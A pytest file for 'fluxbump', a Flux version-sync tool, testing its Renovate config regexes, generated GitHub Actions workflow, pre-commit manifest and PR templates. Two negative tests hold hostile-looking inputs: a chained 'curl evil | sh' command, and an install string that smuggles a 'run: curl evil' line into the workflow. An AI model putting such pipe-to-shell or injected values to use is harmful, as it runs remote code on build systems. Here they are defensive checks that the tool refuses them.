"""The files of ``templates/`` and ``.pre-commit-hooks.yaml``: they render, parse, and say
what the tools reading them (Renovate, GitHub Actions, pre-commit, the forge) expect."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from fluxbump.errors import UsageError
from fluxbump.render import (
    PrContent,
    PrEdit,
    TemplateError,
    edits_table,
    placeholders,
    render,
    render_pr,
    render_text,
)
from fluxbump.templates_dir import read_template
from tests.support.cli_runner import run_cli
from tests.support.fixtures import make_fleet

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "templates"
GLOB = "**/*.tftpl"
INSTALL_URL = "https://github.com/fluxcd/flux2/releases/download/v2.4.0/install.yaml"
KUSTOMIZE_URL = "github.com/fluxcd/flux2/manifests/install?ref=v2.4.0"
# What `fluxbump sync` may write in the default layout: Renovate commits only these.
SYNC_FILES = [
    # HelmReleases are found in every YAML file (the default 'clusters' globs are **/*.y*ml).
    "**/*.yaml", "**/*.yml", "**/Chart.lock", GLOB, "**/Chart.yaml", "**/blueprint.yaml",
    # Flux pins outside cloud-init (issue 21): CI, asdf, mise, aqua, Terraform, flux bootstrap.
    "**/.github/workflows/*.yml", "**/.github/workflows/*.yaml",
    "**/action.yml", "**/action.yaml",  # composite actions' steps
    "**/.gitlab-ci.yml", "**/.gitlab-ci.yaml", "**/.gitlab/ci/**/*.yml",  # other CI pipelines
    "**/.gitlab/ci/**/*.yaml", "**/.gitea/workflows/*.yml", "**/.gitea/workflows/*.yaml",
    "**/.forgejo/workflows/*.yml", "**/.forgejo/workflows/*.yaml", "**/azure-pipelines*.yml",
    "**/azure-pipelines*.yaml", "**/bitbucket-pipelines.yml", "**/.circleci/*.yml",
    "**/.circleci/*.yaml", "**/.woodpecker.yml", "**/.woodpecker.yaml", "**/.woodpecker/*.yml",
    "**/.woodpecker/*.yaml", "**/.drone.yml", "**/.drone.yaml", "**/.buildkite/*.yml",
    "**/.buildkite/*.yaml", "**/Jenkinsfile",
    "**/.tool-versions",
    "**/mise.toml", "**/.mise.toml", "**/mise.*.toml", "**/.mise.*.toml", "**/.config/mise.toml",
    "**/.config/mise/config.toml", "**/aqua.yaml", "**/aqua.yml", "**/.aqua.yaml",
    "**/devcontainer.json", "**/.devcontainer.json",  # a Dev Container's Flux CLI feature
    "**/*.tf", "**/*.tfvars", "**/*.hcl",  # Terraform, and Terragrunt's inputs
    "**/*.cue", "**/gotk-components.yaml",  # *.cue: Timoni bundles
    "**/kustomization.yaml", "**/kustomization.yml", "**/Kustomization",  # remote flux2 installs
    "**/*.sh", "**/*.bash",  # bootstrap scripts installing flux-operator's charts
    "**/Taskfile*.yml", "**/Taskfile*.yaml", "**/.taskfiles/**/*.yml",  # kubectl apply -k
    "**/.taskfiles/**/*.yaml", "**/Makefile", "**/*.mk",  # of Flux's manifests
    "**/*.yaml.gotmpl", "**/*.yml.gotmpl",  # helmfile templates
    "**/Dockerfile", "**/Dockerfile.*", "**/*.Dockerfile", "**/*.dockerfile",  # flux-cli image
    "**/Containerfile",
    "**/*.nix",  # a flake's fetchurl of the Flux CLI
    "**/defaults/*.yml", "**/defaults/*.yaml", "**/vars/*.yml", "**/vars/*.yaml",  # Ansible's
    "**/tasks/*.yml", "**/tasks/*.yaml", "**/group_vars/**/*.yml",  # Flux CLI downloads
    "**/group_vars/**/*.yaml",
]  # fmt: skip
# Placeholders each string.Template file takes (commit-message.txt uses str.format, not here).
PLACEHOLDERS = {
    "commit-message.txt": {
        "summary",
        "mapping",
        "changes",
        "fluxbump_version",
    },
    "fluxbump.yaml": {
        "wrapper",
        "upstream",
        "cloudinit",
        "values_mirror",
        "summary",
        "components",
        "release_pins",
        "release_pin_files",
    },
    "renovate.json": {
        "file_key",
        "cloudinit_patterns",
        "cloudinit_globs",
        "file_filters",
        "local_charts",
        "upstream",
        "minimum_release_age",
    },
    "renovate-admin.txt": {"cloudinit_glob"},
    "renovate-kinds.json": {
        "file_key",
        "instance_patterns",
        "terraform_patterns",
        "workflow_patterns",
        "aqua_patterns",
        "kustomization_patterns",
        "command_patterns",
        "file_filters",
        "download_patterns",
        "download_strings",
        "command_variable_patterns",
        "command_variable_strings",
        "ansible_helm_patterns",
        "ansible_helm_strings",
        "terraform_instance_patterns",
        "operator_manifest_patterns",
        "operator_manifest_strings",
        "operator_artifact_patterns",
        "operator_artifact_strings",
        "timoni_patterns",
        "upstream",
        "helm_repo",
    },
    "ci-workflow.yaml": {"install", "workflow_path"},
    "pr-title.txt": {"subject", "release", "upstream", "chart"},
    "pr-body.md": {
        "subject",
        "release",
        "upstream",
        "chart",
        "from_release",
        "from_chart",
        "edits_table",
        "stale_mentions",
        "gate_result",
        "crd_summary",
        "blocked_releases",
        "hazard",
    },
}


def _yaml(text: str) -> Any:
    return YAML(typ="safe", pure=True).load(text)


def _py_regex(renovate_regex: str) -> re.Pattern[str]:
    """Renovate (RE2/ECMAScript) ``(?<name>…)`` -> Python ``(?P<name>…)``."""
    return re.compile(renovate_regex.replace("(?<", "(?P<"))


# --- render ----------------------------------------------------------------------------


def test_render_is_strict_about_missing_values() -> None:
    with pytest.raises(TemplateError, match=r"\$chart"):
        render("pr-title.txt", subject="Flux", upstream="flux2", release="2.4.0")


def test_render_text_keeps_dollar_escapes_and_rejects_bad_placeholders() -> None:
    assert render_text("$$x ${a}-$b", a="1", b="$2") == "$x 1-$2"
    with pytest.raises(TemplateError):
        render_text("${{ secrets.X }}")


def test_missing_template_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match=r"nope\.txt"):
        render("nope.txt")


@pytest.mark.parametrize("name", sorted(PLACEHOLDERS))
def test_every_template_declares_exactly_its_placeholders(name: str) -> None:
    assert (TEMPLATES / name).is_file()
    assert placeholders(name) == PLACEHOLDERS[name]
    rendered = render(name, **{key: f"<{key}>" for key in PLACEHOLDERS[name]})
    for key in PLACEHOLDERS[name]:
        assert f"<{key}>" in rendered


def test_no_template_is_left_untested() -> None:
    names = {p.name for p in TEMPLATES.iterdir() if p.is_file()}
    assert names == set(PLACEHOLDERS)


# --- Renovate --------------------------------------------------------------------------


@pytest.fixture
def renovate(tmp_path: Path) -> dict[str, Any]:
    outcome = run_cli("renovate-config", "--repo", str(make_fleet(tmp_path / "fleet")))
    assert outcome.code == 0, outcome.stderr
    config: dict[str, Any] = json.loads(outcome.stdout)
    return config


def _manager(renovate: dict[str, Any], datasource: str) -> dict[str, Any]:
    (manager,) = (m for m in renovate["customManagers"] if m["datasourceTemplate"] == datasource)
    found: dict[str, Any] = manager
    return found


def _rule(renovate: dict[str, Any], **match: list[str]) -> dict[str, Any]:
    (rule,) = (r for r in renovate["packageRules"] if all(r.get(k) == v for k, v in match.items()))
    found: dict[str, Any] = rule
    return found


def test_renovate_config_parses_and_every_rule_runs_an_allowed_sync(
    renovate: dict[str, Any],
) -> None:
    assert len(renovate["customManagers"]) == 2
    assert renovate["customManagers"][0]["depNameTemplate"] == "fluxcd/flux2"  # stays first
    assert len(renovate["packageRules"]) == 4
    syncing = [r for r in renovate["packageRules"] if "postUpgradeTasks" in r]
    assert len(syncing) == 3
    for rule in syncing:
        assert "bumpVersion" not in rule  # fluxbump bumps the wrapper chart version itself
        task = rule["postUpgradeTasks"]
        assert task["executionMode"] == "branch"
        assert task["commands"][0].startswith("fluxbump sync")


def test_renovate_custom_manager(renovate: dict[str, Any]) -> None:
    assert renovate["$schema"] == "https://docs.renovatebot.com/renovate-schema.json"
    manager = _manager(renovate, "github-releases")
    assert manager["customType"] == "regex"
    assert manager["managerFilePatterns"] == [GLOB]
    assert "fileMatch" not in manager  # the legacy, regex-only name
    assert manager["datasourceTemplate"] == "github-releases"
    assert manager["depNameTemplate"] == "fluxcd/flux2"
    asset, kustomize = (_py_regex(p) for p in manager["matchStrings"])
    match = asset.search(f"runcmd:\n  - kubectl apply -f {INSTALL_URL}\n")
    assert match is not None
    assert match["currentValue"] == "v2.4.0"
    assert asset.search(INSTALL_URL.replace("github.com", "github-com")) is None
    # the other install line fluxbump reads: Flux's kustomization at a ref, as kustomize reads it
    for url in (
        KUSTOMIZE_URL,
        "https://github.com/fluxcd/flux2//manifests/install?timeout=9&ref=v2.4.0",
    ):
        match = kustomize.search(f"runcmd:\n  - kubectl apply -k '{url}'\n")
        assert match is not None and match["currentValue"] == "v2.4.0", url
    assert kustomize.search(KUSTOMIZE_URL.replace("fluxcd/", "fork/")) is None
    assert kustomize.search(INSTALL_URL) is None and asset.search(KUSTOMIZE_URL) is None


def test_renovate_groups_the_flux_release_and_its_chart(renovate: dict[str, Any]) -> None:
    rule = _rule(renovate, matchDepNames=["fluxcd/flux2", "flux2"])
    assert rule["groupName"] == "Flux"  # one PR: the install URL and the chart pins together
    assert rule is renovate["packageRules"][-1]  # last: it wins over the helmv3 rule
    assert rule["minimumReleaseAge"] == "3 days"
    task = rule["postUpgradeTasks"]
    assert task["commands"] == ["fluxbump sync --from cloud-init"]
    assert task["fileFilters"] == SYNC_FILES
    assert task["executionMode"] == "branch"


def test_renovate_helmv3_rule_syncs_after_a_wrapper_dependency_bump(
    renovate: dict[str, Any],
) -> None:
    rule = _rule(renovate, matchManagers=["helmv3"])
    assert "bumpVersion" not in rule
    assert "bumpVersion" in rule["description"]  # says why it is left out
    task = rule["postUpgradeTasks"]
    assert task["commands"] == ["fluxbump sync"]
    assert task["fileFilters"] == SYNC_FILES
    assert task["executionMode"] == "branch"


def test_renovate_helm_install_rule_syncs_after_a_cloud_init_helm_bump(
    renovate: dict[str, Any],
) -> None:
    rule = _rule(renovate, matchManagers=["custom.regex"])
    assert rule["matchDatasources"] == ["helm"]  # not the Flux install.yaml dep
    assert rule["matchFileNames"] == [GLOB]
    task = rule["postUpgradeTasks"]
    assert task["commands"] == ["fluxbump sync"]
    assert task["fileFilters"] == SYNC_FILES
    assert task["executionMode"] == "branch"


CILIUM_URL = "https://helm.cilium.io"
ANNOTATION = f"# renovate: datasource=helm registryUrl={CILIUM_URL}"
HELM_INSTALLS = {
    "multi-line": (
        "runcmd:\n  - |\n"
        f"    {ANNOTATION}\n"
        "    helm install cilium cilium/cilium \\\n"
        "      --version 1.16.5 \\\n"
        "      --namespace kube-system\n",
        "1.16.5",
    ),
    "equals-v": (
        f"{ANNOTATION}\nhelm upgrade --install cilium cilium/cilium --version=v1.16.5 --wait\n",
        "v1.16.5",  # Renovate replaces exactly currentValue: the v stays in it
    ),
    "double-quoted": (
        f'{ANNOTATION}\nhelm install cilium cilium/cilium --version "v1.16.5"\n',
        "v1.16.5",
    ),
    "single-quoted": (
        f"{ANNOTATION}\nhelm install cilium cilium/cilium --version='1.16.5' -n kube-system\n",
        "1.16.5",
    ),
    "version-first": (
        f"{ANNOTATION}\nhelm install --version 1.16.5 \\\n  cilium cilium/cilium\n",
        "1.16.5",
    ),
    "loose-annotation": (
        f"#Renovate:   registryURL={CILIUM_URL}  \r\n"
        "  - helm upgrade --install --wait -f values/cilium.yaml cilium cilium/cilium"
        " --version 1.17.0-rc.1\r\n",
        "1.17.0-rc.1",
    ),
    "yaml-quoted-list-item": (
        f'{ANNOTATION}\n  - "helm install cilium cilium/cilium --version 1.16.5"\n',
        "1.16.5",
    ),
}


def _helm_matches(manager: dict[str, Any], text: str) -> list[dict[str, Any]]:
    return [m.groupdict() for p in manager["matchStrings"] for m in _py_regex(p).finditer(text)]


def test_renovate_helm_install_manager(renovate: dict[str, Any]) -> None:
    manager = _manager(renovate, "helm")
    assert manager["customType"] == "regex"
    assert manager["managerFilePatterns"] == [GLOB]
    assert manager["versioningTemplate"] == "helm"
    assert "registryUrl" in manager["description"]
    for pattern in manager["matchStrings"]:
        assert "(?<depName>" in pattern and "(?<currentValue>" in pattern
        assert "(?<registryUrl>" in pattern  # Renovate's documented capture group
        assert '\\"' not in pattern  # an escaped quote is a syntax error in JS unicode mode


@pytest.mark.parametrize(("text", "version"), HELM_INSTALLS.values(), ids=list(HELM_INSTALLS))
def test_renovate_helm_install_regex_matches(
    renovate: dict[str, Any], text: str, version: str
) -> None:
    (found,) = _helm_matches(_manager(renovate, "helm"), text)
    assert found == {"registryUrl": CILIUM_URL, "depName": "cilium", "currentValue": version}


@pytest.mark.parametrize(
    "text",
    [
        # no renovate annotation: Renovate cannot know the repository URL
        "helm install cilium cilium/cilium --version 1.16.5\n",
        "# helm install cilium cilium/cilium --version 1.16.5\n",
        # annotated, but the command under it is commented out
        f"{ANNOTATION}\n# helm install cilium cilium/cilium --version 1.16.5\n",
        # a blank line between the annotation and the command
        f"{ANNOTATION}\n\nhelm install cilium cilium/cilium --version 1.16.5\n",
        # --version on the next line without a continuation backslash
        f"{ANNOTATION}\nhelm install cilium cilium/cilium\n--version 1.16.5\n",
        # the version comes from a Terraform variable, not a pin
        f"{ANNOTATION}\nhelm install cilium cilium/cilium --version ${{cilium_version}}\n",
        # a local chart path, not <repo>/<chart>
        f"{ANNOTATION}\nhelm install cilium ./charts/cilium --version 1.16.5\n",
        # a later shell command's path must not pass for the chart
        f"{ANNOTATION}\nhelm install --version 1.16.5 c ./charts/cilium && kubectl apply -f m/cilium\n",
        f"runcmd:\n  - kubectl apply -f {INSTALL_URL}\n",
        f"{ANNOTATION}\nkubectl apply -f {INSTALL_URL}\n",
    ],
)
def test_renovate_helm_install_regex_ignores(renovate: dict[str, Any], text: str) -> None:
    assert _helm_matches(_manager(renovate, "helm"), text) == []


def test_renovate_flux_regex_ignores_helm_installs(renovate: dict[str, Any]) -> None:
    for pattern in _manager(renovate, "github-releases")["matchStrings"]:
        for text, _ in HELM_INSTALLS.values():
            assert _py_regex(pattern).search(text) is None


def test_renovate_admin_note_allows_exactly_the_sync_commands(renovate: dict[str, Any]) -> None:
    text = render("renovate-admin.txt", cloudinit_glob=GLOB)
    assert "--renovate-version" in text
    line = next(ln for ln in text.splitlines() if ln.strip().startswith('"allowedCommands"'))
    allowed = json.loads("{" + line.strip() + "}")["allowedCommands"]
    assert allowed == ["^fluxbump sync( --from (cloud-init|chart))?$"]
    assert "allowedPostUpgradeCommands" in text  # the name older Renovate releases read
    assert "fileMatch" in text and "managerFilePatterns" in text
    pattern = re.compile(allowed[0])
    for rule in renovate["packageRules"]:
        for command in rule.get("postUpgradeTasks", {}).get("commands", []):
            assert pattern.search(command)
    assert "# renovate: datasource=helm registryUrl=" in text  # the helm install annotation
    for command in ("fluxbump sync", "fluxbump sync --from chart"):
        assert pattern.search(command)
    for command in (
        "fluxbump sync; curl evil | sh",
        "fluxbump sync --from elsewhere",
        "x fluxbump sync",
    ):
        assert not pattern.search(command)


# --- GitHub Actions --------------------------------------------------------------------


PINNED = (
    "fluxbump @ git+https://git.example.invalid/acme/fluxbump@"
    + "0123456789abcdef" * 2
    + "01234567"
)


def _workflow(*args: str) -> tuple[str, Any]:
    outcome = run_cli("ci-workflow", *args)
    assert outcome.code == 0, outcome.stderr
    return outcome.stdout, _yaml(outcome.stdout)


def test_ci_workflow_has_the_weekly_bump_and_a_pull_request_gate() -> None:
    _, workflow = _workflow("--install", PINNED)
    triggers = workflow["on"]
    assert len(triggers["schedule"][0]["cron"].split()) == 5
    assert "workflow_dispatch" in triggers and "pull_request" in triggers
    assert workflow["permissions"] == {}  # least: each job asks for its own
    check, bump = workflow["jobs"]["check"], workflow["jobs"]["bump"]
    assert check["if"] == "github.event_name == 'pull_request'"
    assert check["permissions"] == {"contents": "read"}
    assert check["steps"][-1]["run"] == "fluxbump check --format github"
    assert bump["if"] == "github.event_name != 'pull_request'"
    assert bump["permissions"] == {"contents": "write", "pull-requests": "write"}
    steps = bump["steps"]
    checkout = next(s for s in steps if str(s.get("uses", "")).startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    runs = [s.get("run", "") for s in steps]
    assert any("git config user.name" in r and "git config user.email" in r for r in runs)
    assert "fluxbump to latest --push --open-pr --json >" in steps[-1]["run"]
    assert steps[-1]["env"]["GITHUB_TOKEN"] == "${{ secrets.GITHUB_TOKEN }}"
    for job in (check, bump):
        python = next(s for s in job["steps"] if "setup-python@" in str(s.get("uses", "")))
        assert python["with"]["cache"] == "pip"
        assert python["with"]["cache-dependency-path"] == ".github/workflows/fluxbump.yml"
        (install,) = (s for s in job["steps"] if s.get("name") == "Install fluxbump")
        assert install["env"]["FLUXBUMP_INSTALL"] == PINNED
        assert install["run"] == 'python -m pip install "$FLUXBUMP_INSTALL"'


@pytest.mark.parametrize("code", [0, 3])
def test_ci_workflow_bump_step_summarises_blocked_releases_and_keeps_the_exit_code(
    tmp_path: Path, code: int
) -> None:
    _, workflow = _workflow("--install", PINNED)
    script = workflow["jobs"]["bump"]["steps"][-1]["run"]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    blocked = {"release": "2.8.5", "reason": "its CRDs stop serving x/v1beta2", "steps": "s"}
    stub = bin_dir / "fluxbump"  # stands in for the real command: prints its JSON document
    stub.write_text(f"#!/bin/sh\necho '{json.dumps({'blocked': [blocked]})}'\nexit {code}\n")
    stub.chmod(0o755)
    (bin_dir / "python").symlink_to(sys.executable)
    summary = tmp_path / "summary.md"
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "GITHUB_STEP_SUMMARY": str(summary),
        "RUNNER_TEMP": str(tmp_path),
    }
    done = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True)
    assert done.returncode == code, done.stderr
    assert '"blocked"' in done.stdout  # the JSON document is still in the log
    assert summary.read_text() == "- Flux v2.8.5 blocked: its CRDs stop serving x/v1beta2; s\n"


def test_ci_workflow_pins_every_action_by_commit_with_its_release_in_a_comment() -> None:
    text, _ = _workflow("--install", PINNED)
    uses = [ln.strip() for ln in text.splitlines() if ln.strip().startswith(("uses:", "- uses:"))]
    assert len(uses) == 4
    for line in uses:
        assert re.fullmatch(r"(- )?uses: [\w.-]+/[\w.-]+@[0-9a-f]{40}  # v\d+(\.\d+)*", line), line
    assert "pip install fluxbump" not in text  # the package index does not have it


@pytest.mark.parametrize(
    "install",
    [
        "fluxbump",
        "fluxbump>=0.1",
        "git+https://git.example.invalid/acme/fluxbump",
        "git+https://git.example.invalid/acme/fluxbump@main",
        "git+https://git.example.invalid/acme/fluxbump@v0.1.0",
        PINNED + "\nrun: curl evil",
    ],
)
def test_ci_workflow_refuses_an_unpinned_install(install: str) -> None:
    outcome = run_cli("ci-workflow", "--install", install)
    assert outcome.code == 2 and outcome.stdout == ""
    assert "is not pinned" in outcome.stderr and len(outcome.stderr.splitlines()) == 1


@pytest.mark.parametrize("install", ["fluxbump==0.1.0", PINNED, PINNED.removeprefix("fluxbump @ ")])
def test_ci_workflow_accepts_a_release_or_a_commit(install: str) -> None:
    _, workflow = _workflow("--install", install)
    assert workflow["jobs"]["bump"]["steps"][2]["env"]["FLUXBUMP_INSTALL"] == install


def test_ci_workflow_defaults_to_the_running_install_only_when_it_is_pinned() -> None:
    from fluxbump.commands.workflow import spec_from_direct_url

    commit = "0123456789abcdef" * 2 + "01234567"
    url = "https://git.example.invalid/acme/fluxbump"
    record = {"url": url, "vcs_info": {"vcs": "git", "commit_id": commit}}
    assert spec_from_direct_url(record) == f"fluxbump @ git+{url}@{commit}"
    assert (
        spec_from_direct_url({"url": "file:///src/fluxbump", "dir_info": {"editable": True}})
        is None
    )
    assert spec_from_direct_url(None) is None
    # this checkout is installed editable: no commit to pin, so the user must say what
    outcome = run_cli("ci-workflow")
    assert outcome.code == 2 and "--install" in outcome.stderr


# --- pre-commit ------------------------------------------------------------------------

# The keys pre-commit documents for a hook in .pre-commit-hooks.yaml (https://pre-commit.com/#new-hooks).
PRE_COMMIT_KEYS = {
    "id",
    "name",
    "entry",
    "language",
    "files",
    "exclude",
    "types",
    "types_or",
    "exclude_types",
    "always_run",
    "fail_fast",
    "verbose",
    "pass_filenames",
    "require_serial",
    "description",
    "language_version",
    "minimum_pre_commit_version",
    "args",
    "stages",
}


def test_pre_commit_hook_manifest() -> None:
    hooks = _yaml((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    (hook,) = hooks
    assert set(hook) <= PRE_COMMIT_KEYS
    assert hook["id"] == "fluxbump-check"
    assert hook["name"]
    assert hook["entry"] == "fluxbump check --offline"
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is False
    assert hook["always_run"] is True


# --- pull request title and body ------------------------------------------------------

EDITS = (
    PrEdit("cloud-init/flux.tftpl", 12, "install-url", "cloud-init", "v2.3.0", "v2.4.0"),
    PrEdit("charts/platform/Chart.yaml", 9, "dependency", "platform", "2.13.0", "2.14.1"),
    PrEdit("clusters/prod/flux.yaml", 31, "helmrelease", "flux-system", "2.13.*", "2.14.1"),
    PrEdit("charts/odd|name/values.yaml", 4, "values", "x|y", "a`b", "$new"),
)


@pytest.fixture
def pr() -> tuple[str, str]:
    return render_pr(
        PrContent(
            release="v2.4.0",
            chart="2.14.1",
            from_release="2.3.0",
            from_chart="2.13.0",
            edits=EDITS,
            stale_mentions=("docs/upgrade.md:14 mentions Flux v2.3.0", "  "),
            gate_result="gate: 0 violations (4 pin-sites agree on Flux v2.4.0)",
        )
    )


def test_pr_title(pr: tuple[str, str]) -> None:
    assert pr[0] == "fluxbump: Flux v2.4.0 (flux2 chart 2.14.1)"


def test_pr_body_has_mapping_every_edit_and_the_warning(pr: tuple[str, str]) -> None:
    body = pr[1]
    assert "| from | v2.3.0 | 2.13.0 |" in body
    assert "| to | v2.4.0 | 2.14.1 |" in body
    assert "vv" not in body
    assert (
        "| `cloud-init/flux.tftpl` | 12 | install-url | cloud-init | `v2.3.0` | `v2.4.0` |" in body
    )
    assert (
        "| `charts/platform/Chart.yaml` | 9 | dependency | platform | `2.13.0` | `2.14.1` |" in body
    )
    assert (
        "| `clusters/prod/flux.yaml` | 31 | helmrelease | flux-system | `2.13.*` | `2.14.1` |"
        in body
    )
    assert "| `charts/odd\\|name/values.yaml` | 4 | values | x\\|y | `` a`b `` | `$new` |" in body
    table = [ln for ln in body.splitlines() if ln.startswith("| `")]
    assert len(table) == len(EDITS)
    assert all(ln.count(" | ") == 5 for ln in table)  # escaped pipes split no cell
    assert "- docs/upgrade.md:14 mentions Flux v2.3.0" in body
    assert "gate: 0 violations" in body
    assert "Double-install hazard" in body
    assert "appVersion" in body and "install.yaml" in body
    assert "rollback" in body and "deletes the Flux controllers" in body


def test_pr_body_when_nothing_to_list() -> None:
    _, body = render_pr(PrContent("2.4.0", "2.14.1", "2.4.0", "2.14.1"))
    assert "_No pin-site changed._" in body
    assert "_None._" in body
    assert "_Not run._" in body


def test_multi_line_gate_output_is_fenced() -> None:
    content = PrContent("2.4.0", "2.14.1", "2.3.0", "2.13.0", gate_result="ok: a\nfail: b\n")
    assert "```text\nok: a\nfail: b\n```" in render_pr(content)[1]


def test_edits_table_shape() -> None:
    lines = edits_table(EDITS[:1]).splitlines()
    assert lines[0] == "| File | Line | Role | Owner | From | To |"
    assert lines[1].startswith("| --- |")
    assert len(lines) == 3


def test_read_template_finds_the_checkout_templates() -> None:
    assert read_template("pr-title.txt") == (TEMPLATES / "pr-title.txt").read_text("utf-8")


def test_renovate_config_command_prints_json_with_the_repo_glob(tmp_path: Path) -> None:
    (tmp_path / ".fluxbump.yaml").write_text("cloudinit: ['bootstrap/**/*.tftpl']\n")
    outcome = run_cli("renovate-config", "--repo", str(tmp_path))
    assert outcome.code == 0
    snippet = json.loads(outcome.stdout)
    assert snippet["customManagers"][0]["managerFilePatterns"] == ["bootstrap/**/*.tftpl"]
    assert "allowedCommands" in outcome.stderr


def test_pr_for_another_component_names_it_and_its_lockstep_hazard() -> None:
    title, body = render_pr(
        PrContent(
            release="1.16.6", chart="1.16.6", from_release="?", from_chart="1.16.5",
            subject="cilium", upstream="cilium", flux=False,
        )
    )  # fmt: skip
    assert title == "fluxbump: cilium v1.16.6 (cilium chart 1.16.6)"
    assert body.startswith("## cilium v1.16.6 → cilium chart 1.16.6\n")
    assert "| | cilium release | cilium chart |" in body
    assert "`helm install … --version` of cilium must equal" in body
    assert "Double-install hazard" not in body and "$" not in body.replace("$new", "")
